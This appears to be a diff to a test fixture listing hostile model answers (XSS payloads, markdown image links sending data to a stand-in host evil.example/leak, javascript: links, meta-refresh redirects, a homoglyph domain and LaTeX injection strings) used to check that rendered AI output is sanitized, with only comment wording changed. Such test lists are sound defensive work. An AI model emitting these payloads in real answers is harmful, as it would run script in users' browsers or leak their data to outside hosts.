@@ -3,8 +3,8 @@ const away = 'https://evil.example';
 const tick = '`';
 
 /**
- * What a model could be made to write so that the page of its reader runs, fetches or shows something of somebody
- * else's. Each is a whole answer. `evil.example` is nobody's, so that a request to it is one too many.
+ * What a model could be made to write so that its reader's page runs, fetches or shows something from somebody else.
+ * Each is a whole answer. `evil.example` is nobody's, so any request to it is one too many.
  */
 export const hostileAnswers: readonly string[] = [
   // Elements that run.
@@ -43,7 +43,7 @@ export const hostileAnswers: readonly string[] = [
   `<template><script>${run}</script></template>`,
   `<portal src="${away}"></portal>`,
   `<xss id=x tabindex=1 onfocus=${run}></xss>`,
-  // Elements that change the page or lead away.
+  // Elements that change the page or lead away from it.
   `<base href="${away}/">`,
   `<meta http-equiv="refresh" content="0;url=${away}">`,
   `<link rel="stylesheet" href="${away}/a.css">`,
@@ -74,14 +74,14 @@ export const hostileAnswers: readonly string[] = [
   `[click](https://xn--pple-43d.com/)`,
   `[click](${away} "onmouseover=${run}")`,
   `[a](<javascript:${run}> 'x')`,
-  // Images and what could carry words away.
+  // Images, and what could leak words.
   `![x](${away}/leak?q=secret)`,
   `![x][ref]\n\n[ref]: ${away}/leak`,
   `![x](javascript:${run})`,
   `![x](data:image/svg+xml,<svg onload="${run}">)`,
   `[![x](${away}/leak)](javascript:${run})`,
   `<picture><source srcset="${away}/leak"><img></picture>`,
-  // Code, formulas and their ends.
+  // Code, formulas and their delimiters.
   `${tick.repeat(3)}html\n<script>${run}</script>\n${tick.repeat(3)}`,
   `${tick.repeat(3)}"><script>${run}</script>\nx\n${tick.repeat(3)}`,
   `${tick.repeat(3)}js\n</code></pre><script>${run}</script>`,
@@ -93,7 +93,7 @@ export const hostileAnswers: readonly string[] = [
   `$$\\unicode{<img src=x onerror=${run}>}$$`,
   `$\\text{<img src=x onerror=${run}>}$`,
   `$\\def\\a{\\a\\a}\\a$`,
-  // What is left open.
+  // Things left unclosed.
   `<!-- <script>${run}</script>`,
   `<![CDATA[<script>${run}</script>`,
   `<?php ${run} ?>`,
